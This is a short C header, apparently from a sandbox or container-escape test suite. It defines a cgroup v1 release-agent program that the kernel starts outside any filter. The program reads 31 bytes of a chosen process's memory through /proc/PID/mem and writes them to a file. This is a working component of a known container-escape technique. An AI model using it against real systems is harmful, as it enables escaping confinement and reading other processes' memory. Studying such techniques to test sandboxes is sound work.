/* release-agent.h - the release agent of the cgroup v1 attacks
 * (rev36-release-agent.c, built plain and -DBY_HANDLE): started by the
 * kernel with the cgroup's path "/PID-ADDR", it reads 31 bytes of PID's
 * memory at ADDR (hex) into the file named after itself with ".out". */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

/* Outside any filter. */
static int agent(const char *self, const char *cgroup) {
  char path[64], out[4200], buf[32] = {0};
  char *dash = strchr(cgroup, '-');
  if (!dash)
    return 2;
  snprintf(path, sizeof path, "/proc/%.*s/mem", (int)(dash - cgroup - 1),
           cgroup + 1);
  int mem = open(path, O_RDONLY);
  if (mem < 0 || pread(mem, buf, 31, (off_t)strtoull(dash + 1, NULL, 16)) <= 0)
    snprintf(buf, sizeof buf, "(%s)", strerror(errno));
  snprintf(out, sizeof out, "%s.out", self);
  int fd = open(out, O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (fd >= 0 && write(fd, buf, strlen(buf)) < 0)
    return 1;
  return 0;
}
